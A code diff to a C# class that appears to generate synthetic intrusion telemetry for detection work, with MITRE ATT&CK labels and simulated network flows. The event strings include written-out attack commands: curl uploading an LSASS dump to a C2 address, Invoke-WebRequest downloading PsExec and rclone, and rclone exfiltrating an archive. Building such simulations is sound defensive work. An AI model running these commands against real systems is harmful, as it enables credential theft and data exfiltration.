@@ -35,16 +35,6 @@ internal sealed class Intrusion
         return i;
     }
 
-    public void Finish(SimulationTruth truth)
-    {
-        if (truth.IntrusionEvents.Count == 0) return;
-        // ISO-8601 timestamps of one fixed width sort chronologically as strings.
-        var stamps = truth.IntrusionEvents.Select(e => e.Timestamp).Order(StringComparer.Ordinal).ToList();
-        string first = stamps[0], last = stamps[^1];
-        truth.IntrusionStart = DateTime.Parse(first, CultureInfo.InvariantCulture, DateTimeStyles.AdjustToUniversal | DateTimeStyles.AssumeUniversal);
-        truth.IntrusionEnd = DateTime.Parse(last, CultureInfo.InvariantCulture, DateTimeStyles.AdjustToUniversal | DateTimeStyles.AssumeUniversal);
-    }
-
     private void Step(string technique, string tactic, string what, Action body) =>
         _w.Labelled(new Label("intrusion", technique, tactic, what), body);
 
@@ -68,6 +58,7 @@ internal sealed class Intrusion
         truth.CompromisedHosts.AddRange([ws.Fqdn, _co.FileServer.Fqdn, _co.Sql.Fqdn]);
         truth.CompromisedAccounts.AddRange([user.Qualified, admin.Qualified]);
         truth.FootholdIp = ws.Ip;
+        truth.FootholdIps.Add(ws.Ip);
         truth.ExternalIps.AddRange([C2Ip, ExfilIp]);
 
         // 1. Phishing attachment arrives and is opened.
@@ -126,7 +117,7 @@ internal sealed class Intrusion
         Step("T1041", "exfiltration", "LSASS dump uploaded to C2 with curl", () =>
         {
             var curl = _w.Spawn(Wait(60, 200), elevated, Sys32 + "curl.exe", $"\"{Sys32}curl.exe\" -s -k -T {dump} https://{C2Ip}/s/u");
-            _w.Net(_t + 300, curl, C2Ip, 443);
+            _w.Net(_t + 300, curl, C2Ip, 443, flow: new Flow { OrigBytes = 48_213_504 + 2_400, RespBytes = 5_800, DurationMs = 21_000, State = "SF" });
         });
         Beacons(elevated, _t, _t + 5 * 3_600_000L / 2);
 
@@ -138,7 +129,7 @@ internal sealed class Intrusion
         Step("T1105", "command-and-control", "download PsExec", () =>
         {
             _w.Script4104(_t, elevated, $"Invoke-WebRequest -Uri https://{C2Ip}/s/p64.exe -OutFile {psexec} -UseBasicParsing");
-            _w.Net(_t + 200, elevated, C2Ip, 443);
+            _w.Net(_t + 200, elevated, C2Ip, 443, flow: new Flow { OrigBytes = 1_900, RespBytes = 833_472, DurationMs = 1_600, State = "SF" });
             _w.FileCreate(_t + 1800, elevated, psexec);
         });
         var fs = _co.FileServer;
@@ -229,7 +220,7 @@ internal sealed class Intrusion
         Step("T1105", "command-and-control", "download rclone", () =>
         {
             _w.Script4104(Wait(60, 180), sqlImplant, $"Invoke-WebRequest -Uri https://{C2Ip}/s/rc.zip -OutFile C:\\ProgramData\\rc.zip -UseBasicParsing; Expand-Archive C:\\ProgramData\\rc.zip -DestinationPath C:\\ProgramData -Force");
-            _w.Net(_t + 200, sqlImplant, C2Ip, 443);
+            _w.Net(_t + 200, sqlImplant, C2Ip, 443, flow: new Flow { OrigBytes = 2_100, RespBytes = 21_448_310, DurationMs = 9_300, State = "SF" });
             _w.FileCreate(_t + 4000, sqlImplant, "C:\\ProgramData\\rclone.exe");
             _w.FileCreate(_t + 4100, sqlImplant, "C:\\ProgramData\\rc.conf");
         });
@@ -237,7 +228,11 @@ internal sealed class Intrusion
         {
             var rc = _w.Spawn(Wait(30, 120), sqlImplant, "C:\\ProgramData\\rclone.exe",
                 $"C:\\ProgramData\\rclone.exe copy {archive} remote:incoming --config C:\\ProgramData\\rc.conf --transfers 4 --no-check-certificate -q");
-            for (int i = 0; i < 4; i++) _w.Net(_t + 400 + i * 50, rc, ExfilIp, 22);
+            // rclone --transfers 4: four SFTP streams carrying the archive (hundreds of MB in all) to a new address;
+            // sizes come from the sensor's stream so that the Windows events do not depend on the network logs.
+            for (int i = 0; i < 4; i++)
+                _w.Net(_t + 400 + i * 50, rc, ExfilIp, 22,
+                    flow: _w.Sensor is { } s ? Flow.Upload(s.Rng.Range(110, 190), s.Rng.Range(300, 900), "ssh") : null);
         });
         Step("T1070.004", "defense-evasion", "delete staged files", () =>
             _w.Spawn(Wait(120, 400), sqlImplant, "C:\\Windows\\System32\\cmd.exe",
